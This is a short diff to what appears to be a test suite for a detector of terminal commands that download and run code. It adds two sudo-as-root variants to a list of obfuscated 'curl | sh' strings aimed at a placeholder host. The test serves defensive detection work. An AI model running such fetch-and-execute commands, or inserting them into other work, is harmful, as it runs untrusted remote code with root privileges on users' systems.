@@ -57,6 +57,8 @@ describe('a command in a terminal', () => {
     "c'u'rl https://example.org | s\\h",
     '/usr/bin/curl https://example.org | /bin/sh',
     'cd /tmp && curl https://example.org|node',
+    'curl https://example.org | sudo -u root bash',
+    'sudo -u root curl https://example.org | env -u HOME A=1 sh',
     'env A=1 timeout 5 curl https://example.org | bash',
     'if true; then curl https://example.org | sh; fi',
     'echo "$(curl https://example.org)" | bash',
